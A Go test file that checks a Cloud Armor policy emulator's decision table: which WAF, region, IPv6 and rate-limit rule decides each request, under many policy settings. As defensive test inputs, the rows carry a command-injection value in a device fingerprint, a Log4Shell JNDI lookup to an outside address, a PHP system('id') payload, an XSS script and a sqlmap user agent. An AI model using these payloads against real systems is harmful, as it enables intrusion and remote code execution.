package cloudarmor_test

import (
	"encoding/json"
	"net/url"
	"reflect"
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/coditect-ai/license-platform/armor/policy"
	"github.com/coditect-ai/license-platform/armor/rule"
	"github.com/coditect-ai/license-platform/emulator/cloudarmor"
)

// row is one line of the decision table: what a request meets.
type row struct {
	request cloudarmor.Request
	// rule is the one that decides, by its name in the program, and status what the
	// client gets; 0 is what the API answers.
	rule   string
	status int
}

// passes are the rows that a harmless client meets.
func passes() map[string]row {
	v6 := from("2001:db8::7")
	acquire := func(text string) cloudarmor.Request {
		return get(at("/v1/licenses/demo/acquire", ""), jsonBody(text))
	}
	return map[string]row{
		"a client of a listed country":   {get(), "rate-limit-ban", 0},
		"a heartbeat":                    {get(heartbeat("demo.1")), "keep-seats", 0},
		"a heartbeat over IPv6":          {get(heartbeat("demo.1"), v6), "keep-seats", 0},
		"a client over IPv6":             {get(v6), "rate-limit-ipv6", 0},
		"a device with an odd name":      {acquire(`{"fingerprint":"$(hostname); cat /etc/machine-id"}`), "rate-limit-ban", 0},
		"a client of another country":    {get(in("KP")), "deny-regions", 403},
		"a client of an unknown country": {get(in("")), "deny-regions", 403},
		"an injection in a query":        {get(at("/health", attack)), "waf-sqli", 403},
		"an injection over IPv6":         {get(at("/health", attack), v6), "waf-sqli", 403},
		"an injection in a heartbeat":    {get(at("", attack), heartbeat("demo.1")), "waf-sqli", 403},
		"a script in another field":      {acquire(`{"device":"<script>alert(1)</script>"}`), "waf-xss", 403},
		"the name of a field elsewhere":  {get(at("/health", "fingerprint="+url.QueryEscape("<?php system('id'); ?>"))), "waf-elsewhere-2", 403},
		"a lookup of Log4Shell in a name": {
			acquire(`{"fingerprint":"${jndi:ldap://198.51.100.7/a}"}`), "waf-cve", 403,
		},
		"a method that the API does not have": {get(method("TRACE")), "waf-methodenforcement", 403},
		"a scanner":                           {get(with("User-Agent", "sqlmap/1.8")), "waf-scannerdetection", 403},
	}
}

// variant are settings with which some rows differ.
type variant struct {
	settings string // JSON, over those of the stack
	scope    policy.Scope
	differ   map[string]row
}

func variants() map[string]variant {
	only := func(rule string, status int) row { return row{rule: rule, status: status} }
	everything := map[string]row{}
	for name := range passes() {
		everything[name] = only("lockdown", 403)
	}
	previewed := map[string]row{}
	for name := range passes() {
		previewed[name] = only("everyone-else", 0)
	}
	return map[string]variant{
		"as declared": {},
		"IPv6 by address": {settings: `{"ipv6":"addresses"}`, differ: map[string]row{
			"a client over IPv6": only("rate-limit-ban", 0),
		}},
		"IPv6 refused": {settings: `{"ipv6":"deny"}`, differ: map[string]row{
			"a client over IPv6": only("deny-ipv6", 403), "a heartbeat over IPv6": only("deny-ipv6", 403), "an injection over IPv6": only("deny-ipv6", 403),
		}},
		"no exclusions": {settings: `{"waf":{"inspectAll":true}}`, differ: map[string]row{
			"a device with an odd name":       only("waf-rce", 403),
			"the name of a field elsewhere":   only("waf-php", 403),
			"a lookup of Log4Shell in a name": only("waf-rce", 403),
		}},
		"every country": {settings: `{"regions":{"off":true}}`, differ: map[string]row{
			"a client of another country": only("rate-limit-ban", 0), "a client of an unknown country": only("rate-limit-ban", 0),
		}},
		"unknown countries let in": {settings: `{"regions":{"unknown":"allow"}}`, differ: map[string]row{
			"a client of an unknown country": only("rate-limit-ban", 0),
		}},
		"throttled": {settings: `{"rateLimit":{"action":"throttle"}}`, differ: map[string]row{
			"a client of a listed country": only("rate-limit-throttle", 0), "a device with an odd name": only("rate-limit-throttle", 0),
		}},
		"refused as not found": {settings: `{"waf":{"action":"deny(404)"}}`, differ: map[string]row{
			"an injection in a query": only("waf-sqli", 404), "a scanner": only("waf-scannerdetection", 404),
			"an injection over IPv6": only("waf-sqli", 404), "an injection in a heartbeat": only("waf-sqli", 404),
			"a script in another field": only("waf-xss", 404), "the name of a field elsewhere": only("waf-elsewhere-2", 404),
			"a lookup of Log4Shell in a name": only("waf-cve", 404), "a method that the API does not have": only("waf-methodenforcement", 404),
		}},
		"one set in preview": {settings: `{"waf":{"sets":{"scannerdetection":{"preview":true}}}}`, differ: map[string]row{
			"a scanner": only("rate-limit-ban", 0),
		}},
		"one set off": {settings: `{"waf":{"sets":{"methodenforcement":{"off":true}}}}`, differ: map[string]row{
			"a method that the API does not have": only("rate-limit-ban", 0),
		}},
		"enterprise": {settings: `{"enterprise":true}`},
		"a list of who may": {settings: `{"mode":"allowlist","allowlist":{"ranges":["203.0.113.0/24"]}}`, differ: map[string]row{
			"a client of a listed country": only("allowlist-1", 0), "a heartbeat": only("allowlist-1", 0), "a device with an odd name": only("allowlist-1", 0),
			"a client over IPv6": only("everyone-else", 403), "a heartbeat over IPv6": only("everyone-else", 403),
		}},
		"all in preview": {settings: `{"preview":true}`, differ: previewed},
		"a lockdown":     {scope: policy.Scope{Lockdown: true}, differ: everything},
		"a lockdown of a policy in preview": {
			settings: `{"preview":true}`, scope: policy.Scope{Lockdown: true}, differ: everything,
		},
	}
}

// TestTheDecisionTable asks the policy of every stack, as it is and with each setting
// that decides about clients changed.
func TestTheDecisionTable(t *testing.T) {
	t.Parallel()
	var evaluated []policy.Settings
	for stack, settings := range ofStacks(t) {
		if slices.ContainsFunc(evaluated, func(same policy.Settings) bool { return reflect.DeepEqual(same, settings) }) {
			continue // the same policy as another stack's
		}
		evaluated = append(evaluated, settings)
		for name, v := range variants() {
			t.Run(stack+", "+name, func(t *testing.T) {
				t.Parallel()
				changed, scope := copied(t, settings), v.scope
				if v.settings != "" {
					require.NoError(t, json.Unmarshal([]byte(v.settings), &changed))
				}
				scope.Host = licenseHost
				bench, names := standAt(t, changed, scope), map[int]string{}
				built, err := policy.Build(changed, scope)
				require.NoError(t, err)
				for _, each := range built.Rules {
					names[each.Priority] = each.Name
				}
				for what, wanted := range passes() {
					decision := bench.decide(t, wanted.request)
					if other, differs := v.differ[what]; differs {
						wanted.rule, wanted.status = other.rule, other.status
					}
					assert.Equal(t, wanted.rule, names[decision.Priority()], what)
					assert.Equal(t, wanted.status, decision.StatusCode, what)
				}
				for what := range v.differ {
					assert.Contains(t, passes(), what)
				}
			})
		}
	}
}

// copied keeps one variant's change out of the next.
func copied(t *testing.T, settings policy.Settings) (fresh policy.Settings) {
	t.Helper()
	text, err := json.Marshal(settings)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(text, &fresh))
	return fresh
}

// TestEachPolicyCountsTheHundredAndFirst sends one request more than a client may, by
// every way of counting.
func TestEachPolicyCountsTheHundredAndFirst(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		settings policy.Settings
		client   func(n int) func(*cloudarmor.Request)
		status   int
	}{
		"one address":                        {policy.Settings{}, func(int) func(*cloudarmor.Request) { return from("203.0.113.9") }, 429},
		"one address, throttled":             {policy.Settings{RateLimit: policy.RateLimit{Action: rule.Throttle}}, func(int) func(*cloudarmor.Request) { return from("203.0.113.9") }, 429},
		"many addresses of one IPv6 network": {policy.Settings{}, ofOneNetwork, 429},
		"the same, each address by itself":   {policy.Settings{IPv6: "addresses"}, ofOneNetwork, 0},
		"one address of a policy in preview": {policy.Settings{Preview: true}, func(int) func(*cloudarmor.Request) { return from("203.0.113.9") }, 0},
		"heartbeats of one address":          {policy.Settings{}, func(int) func(*cloudarmor.Request) { return heartbeat("demo.1") }, 0},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			test.settings.WAF = unscanned().WAF
			bench, last := stand(t, test.settings), 0
			for n := range 101 {
				require.Zero(t, last, "request %d", n)
				last = bench.decide(t, get(test.client(n))).StatusCode
			}
			assert.Equal(t, test.status, last)
		})
	}
}

func ofOneNetwork(n int) func(*cloudarmor.Request) {
	return from("2001:db8::" + string("0123456789abcdef"[n/16]) + string("0123456789abcdef"[n%16]))
}
